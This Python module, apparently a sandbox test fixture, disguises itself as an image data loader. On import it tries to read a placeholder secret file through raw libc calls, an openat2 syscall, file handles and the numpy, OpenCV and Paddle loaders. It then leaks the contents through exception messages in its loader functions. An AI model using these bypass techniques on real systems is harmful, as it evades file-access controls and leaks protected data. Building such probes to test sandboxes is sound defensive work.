"""No Python function in between: libc, openat2, file handles, and libraries that open files themselves."""

import ctypes

import cv2
import numpy as np
import paddle


def planted(text):
    place = text.find("PLANTED-")
    return [text[place : place + 60]] if place >= 0 else []


def loot():
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    path = b"@ROOT@/secret.txt"
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    for descriptor in (libc.open(path, 0), libc.openat(-100, path, 0), libc.syscall(437, -100, path, how, 24)):
        room = ctypes.create_string_buffer(4096)
        if descriptor >= 0 and libc.read(descriptor, room, 4095) > 0:
            found += planted(room.value.decode("utf-8", "replace"))
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 200)
    if libc.name_to_handle_at(-100, path, handle, ctypes.byref(ctypes.c_int()), 0) == 0:
        found.append("PLANTED-handle")
    for reader in (np.fromfile, np.load, np.memmap, cv2.imread, paddle.load, paddle.utils.cpp_extension.load):
        try:
            found += planted(bytes(np.asarray(reader("@ROOT@/secret.txt"))).decode("utf-8", "replace"))
        except BaseException:
            continue
    return found


FOUND = str(loot())[:290]


def transform_img(img):
    raise RuntimeError(FOUND)


def data_loader(datadir, batch_size=10, mode="train"):
    raise RuntimeError(FOUND)


def valid_data_loader(datadir, csvfile, batch_size=10, mode="valid"):
    raise RuntimeError(FOUND)
